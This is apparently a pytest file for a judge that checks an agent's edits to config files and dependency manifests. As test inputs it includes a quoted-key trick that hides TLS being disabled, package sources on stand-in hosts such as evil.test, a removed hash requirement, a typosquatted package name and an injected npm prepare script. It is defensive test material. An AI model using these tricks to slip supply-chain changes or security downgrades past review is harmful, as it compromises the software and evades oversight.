"""Structured config invariants (TOML/JSON/YAML/INI/.env) and dependency manifests."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pydantic import ValidationError

from vsh_ai import load_judge
from vsh_ai.rules import ConfigInvariants, ConfigSyntaxError, DependencyVersionsOnly, parse_config

pytestmark = pytest.mark.anyio


def write(path: str, text: str) -> str:
    return f"vsh_write('/workspace/{path}', {text!r})"


# One config in every format: tls.enabled = true, pool.size = 4 (as text in INI/.env).
FORMATS = {
    "cfg.toml": (
        "[tls]\nenabled = true\n[pool]\nsize = 4\n",
        "[tls]\nenabled = true\n[pool]\nsize = 8\n",
        "[tls]\nenabled = false\n[pool]\nsize = 4\n",
    ),
    "cfg.json": (
        '{"tls": {"enabled": true}, "pool": {"size": 4}}',
        '{"tls": {"enabled": true}, "pool": {"size": 8}}',
        '{"tls": {"enabled": false}, "pool": {"size": 4}}',
    ),
    "cfg.yaml": (
        "tls:\n  enabled: true\npool:\n  size: 4\n",
        "tls:\n  enabled: true\npool:\n  size: 8\n",
        "tls:\n  enabled: false\npool:\n  size: 4\n",
    ),
    "cfg.ini": (
        "[tls]\nenabled = true\n[pool]\nsize = 4\n",
        "[tls]\nenabled = true\n[pool]\nsize = 8\n",
        "[tls]\nenabled = false\n[pool]\nsize = 4\n",
    ),
    "cfg.env": (
        "tls.enabled=true\npool.size=4\n",
        "tls.enabled=true\npool.size=8\n",
        "tls.enabled=false\npool.size=4\n",
    ),
}
INVALID = {
    "cfg.toml": "[tls\nenabled = true\n",
    "cfg.json": '{"tls": ',
    "cfg.yaml": "tls: [unclosed\n",
    "cfg.ini": "enabled = true\n",
    "cfg.env": "this is not an env line\n",
}
DUPLICATE = {
    "cfg.toml": "a = 1\na = 2\n",
    "cfg.json": '{"a": 1, "a": 2}',
    "cfg.yaml": "a: 1\na: 2\n",
    "cfg.ini": "[s]\na = 1\na = 2\n",
    "cfg.env": "A=1\nA=2\n",
}


@pytest.mark.parametrize("name", FORMATS)
async def test_config_invariants_in_every_format(evidence_for, name: str) -> None:
    before, allowed, weakened = FORMATS[name]
    rule = ConfigInvariants(globs=("cfg.*",), keep=("tls.enabled",), require={"tls.enabled": True})
    strict = ConfigInvariants(globs=("cfg.*",), may_change=("pool.size",))

    ok = await evidence_for({name: before}, write(name, allowed))
    assert rule.check(ok) is None
    assert strict.check(ok) is None

    bad = await evidence_for({name: before}, write(name, weakened))
    verdict = rule.check(bad)
    assert verdict is not None
    assert verdict.decision == "review"
    assert f"{name}: tls.enabled must keep the current value" in verdict.reason
    assert f"{name} must have tls.enabled = true" in verdict.reason
    verdict = strict.check(bad)
    assert verdict is not None
    assert "only pool.size may change, but tls.enabled changed" in verdict.reason


@pytest.mark.parametrize("name", INVALID)
async def test_invalid_syntax_is_review(evidence_for, name: str) -> None:
    before = FORMATS[name][0]
    evidence = await evidence_for({name: before}, write(name, INVALID[name]))
    verdict = ConfigInvariants(globs=("cfg.*",), keep=("tls",)).check(evidence)
    assert verdict is not None
    assert verdict.decision == "review"
    assert f"{name} is not valid after the change" in verdict.reason


@pytest.mark.parametrize("name", DUPLICATE)
def test_duplicate_keys_are_syntax_errors(name: str) -> None:
    with pytest.raises(ConfigSyntaxError):
        parse_config(DUPLICATE[name].encode(), "auto", name)


async def test_duplicate_key_in_yaml_is_review(evidence_for) -> None:
    evidence = await evidence_for(
        {"c.yaml": "tls: true\n"}, write("c.yaml", "tls: true\nport: 1\ntls: false\n")
    )
    verdict = ConfigInvariants(globs=("*.yaml",), keep=("tls",)).check(evidence)
    assert verdict is not None
    assert "duplicate key 'tls'" in verdict.reason


# The real tls.enabled turns false; a quoted key spelled like its dotted path, placed
# after it, kept the old value in the flattened view and hid the change.
DOTTED_SHADOW = {
    "cfg.toml": 'tls = { enabled = false }\n"tls.enabled" = true\npool.size = 4\n',
    "cfg.json": '{"tls": {"enabled": false}, "tls.enabled": true, "pool": {"size": 4}}',
    "cfg.yaml": "tls:\n  enabled: false\ntls.enabled: true\npool:\n  size: 4\n",
}


@pytest.mark.parametrize("name", DOTTED_SHADOW)
async def test_a_key_spelled_like_a_dotted_path_cannot_shadow_it(evidence_for, name) -> None:
    evidence = await evidence_for({name: FORMATS[name][0]}, write(name, DOTTED_SHADOW[name]))
    for rule in (
        ConfigInvariants(globs=("cfg.*",), keep=("tls.enabled",), action="reject"),
        ConfigInvariants(globs=("cfg.*",), may_change=("pool.size",), may_add=("**",)),
    ):
        verdict = rule.check(evidence)
        assert verdict is not None
        assert verdict.decision == rule.action
        assert "tls.enabled" in verdict.reason


async def test_the_service_config_judge_rejects_tls_hidden_behind_a_quoted_key(
    evidence_for,
) -> None:
    before = "[server]\nport = 443\n\n[server.tls]\nenabled = true\n"
    after = 'server = { port = 443, tls = { enabled = false } }\n"server.tls.enabled" = true\n'
    evidence = await evidence_for({"config/app.toml": before}, write("config/app.toml", after))
    judge = load_judge(Path(__file__).parents[1] / "judges/service-config.toml", skip_llm=True)
    verdict = await judge.review(evidence)
    assert verdict.decision == "reject"
    assert "ambiguous key 'server.tls.enabled'" in verdict.reason


async def test_keep_patterns_removed_keys_and_added_keys(evidence_for) -> None:
    before = '[server]\nport = 80\n[server.tls]\nmin_version = "1.2"\n'
    removed = await evidence_for({"c.toml": before}, write("c.toml", "[server]\nport = 80\n"))
    keep = ConfigInvariants(globs=("c.toml",), keep=("**.*tls*",))
    verdict = keep.check(removed)
    assert verdict is not None
    assert "server.tls.min_version must keep" in verdict.reason
    present = ConfigInvariants(globs=("c.toml",), keep_present=("server",))
    assert (v := present.check(removed)) is not None
    assert "must not be removed" in v.reason

    added = await evidence_for({"c.toml": before}, write("c.toml", before + "[extra]\nx = 1\n"))
    assert keep.check(added) is None
    only_port = ConfigInvariants(globs=("c.toml",), may_change=("server.port",))
    assert (v := only_port.check(added)) is not None
    assert "extra.x" in v.reason
    may_add = ConfigInvariants(globs=("c.toml",), may_change=("server.port",), may_add=("extra.*",))
    assert may_add.check(added) is None


async def test_created_config_and_deleted_config(evidence_for) -> None:
    rule = ConfigInvariants(globs=("*.json",), require={"audit": True})
    created = await evidence_for({}, write("new.json", json.dumps({"audit": False})))
    assert (v := rule.check(created)) is not None
    assert "must have audit = true" in v.reason
    good = await evidence_for({}, write("new.json", json.dumps({"audit": True})))
    assert rule.check(good) is None
    deleted = await evidence_for({"a.json": "{}"}, "vsh_remove('/workspace/a.json')")
    assert (v := rule.check(deleted)) is not None
    assert "must not be deleted" in v.reason
    assert rule.model_copy(update={"allow_delete": True}).check(deleted) is None


def test_config_rule_needs_an_invariant() -> None:
    with pytest.raises(ValidationError, match="at least one of keep"):
        ConfigInvariants(globs=("*.toml",))


PYPROJECT = '[project]\nname = "app"\ndependencies = ["httpx>=0.27", "pydantic>=2.0"]\n'
PACKAGE = json.dumps({"name": "app", "dependencies": {"left-pad": "^1.0.0"}})
REQS = "requests==2.31.0\nflask>=2.0  # web\n"
HASHED = "--require-hashes\nrequests==2.31.0 \\\n    --hash=sha256:aaaa\n"


@pytest.mark.parametrize(
    ("name", "before", "after", "expected"),
    [
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace("0.27", "0.28"), None),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"]', '", "evil>=1"]'), "review"),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"app"', '"other"'), "review"),
        (
            "pyproject.toml",
            PYPROJECT,
            PYPROJECT.replace('"httpx>=0.27"', '"httpx @ git+https://x.test/httpx"'),
            "reject",
        ),
        ("package.json", PACKAGE, PACKAGE.replace("^1.0.0", "^1.3.0"), None),
        ("package.json", PACKAGE, PACKAGE.replace("^1.0.0", "github:evil/left-pad"), "reject"),
        ("package.json", PACKAGE, PACKAGE.replace('"left-pad"', '"right-pad"'), "review"),
        ("requirements.txt", REQS, REQS.replace("2.31.0", "2.32.3"), None),
        ("requirements.txt", REQS, REQS + "--extra-index-url https://evil.test/simple\n", "reject"),
        ("requirements.txt", REQS, REQS + "pkg @ https://evil.test/pkg.whl\n", "reject"),
        ("requirements.txt", REQS, REQS + "newpkg==1.0\n", "review"),
        ("requirements.txt", HASHED, HASHED.replace("2.31.0", "2.32.3").replace("aa", "bb"), None),
        ("requirements.txt", HASHED, HASHED.replace("--require-hashes\n", ""), "reject"),
        (
            "pyproject.toml",
            PYPROJECT,
            PYPROJECT.replace("pydantic>=2.0", "pydantic>=3.0"),
            "review",
        ),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace("httpx>=0.27", "httpx>=0.20"), "review"),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"httpx>=0.27"', '"httpx"'), "review"),
        (
            "pyproject.toml",
            PYPROJECT,
            PYPROJECT.replace('"httpx>=0.27"', '"httqx>=0.27"'),
            "reject",
        ),
        (
            "package.json",
            PACKAGE,
            PACKAGE.replace('"app",', '"app", "scripts": {"prepare": "node x.js"},'),
            "review",
        ),
    ],
)
async def test_dependency_versions_only(evidence_for, name, before, after, expected) -> None:
    evidence = await evidence_for({name: before}, write(name, after))
    verdict = DependencyVersionsOnly().check(evidence)
    assert (verdict.decision if verdict else None) == expected, verdict and verdict.reason


async def test_dependency_reasons_never_echo_url_credentials(evidence_for) -> None:
    """An index URL's credentials (which the agent may never have read) stay out of feedback."""
    private = "--index-url https://ci:s3cr3tpass@pkgs.test/simple\n" + REQS
    public = "--index-url https://pypi.org/simple\n" + REQS + "x @ https://tok3n@evil.test/x.whl\n"
    evidence = await evidence_for({"requirements.txt": private}, write("requirements.txt", public))
    verdict = DependencyVersionsOnly().check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "--index-url https://***@pkgs.test/simple" in verdict.reason
    assert "s3cr3tpass" not in verdict.reason
    assert "tok3n" not in verdict.reason
    # Also where the URL spec is reported as a downgrade, not only as a URL.
    url = "requests==2.0.0 @ https://bob:hunter2tok@pkgs.test/r.tar.gz\n"
    evidence = await evidence_for({"requirements.txt": REQS}, write("requirements.txt", url))
    verdict = DependencyVersionsOnly(downgrade_action="reject").check(evidence)
    assert verdict is not None
    assert "requests is downgraded" in verdict.reason
    assert "hunter2tok" not in verdict.reason


async def test_downgrades_can_be_rejected(evidence_for) -> None:
    after = PYPROJECT.replace("httpx>=0.27", "httpx>=0.20")
    evidence = await evidence_for({"pyproject.toml": PYPROJECT}, write("pyproject.toml", after))
    verdict = DependencyVersionsOnly(downgrade_action="reject").check(evidence)
    assert verdict is not None
    assert verdict.decision == "reject"
    assert "httpx is downgraded (>=0.27 -> >=0.20)" in verdict.reason
    major = PYPROJECT.replace("pydantic>=2.0", "pydantic>=3.0")
    evidence = await evidence_for({"pyproject.toml": PYPROJECT}, write("pyproject.toml", major))
    assert DependencyVersionsOnly(allow_major=True).check(evidence) is None
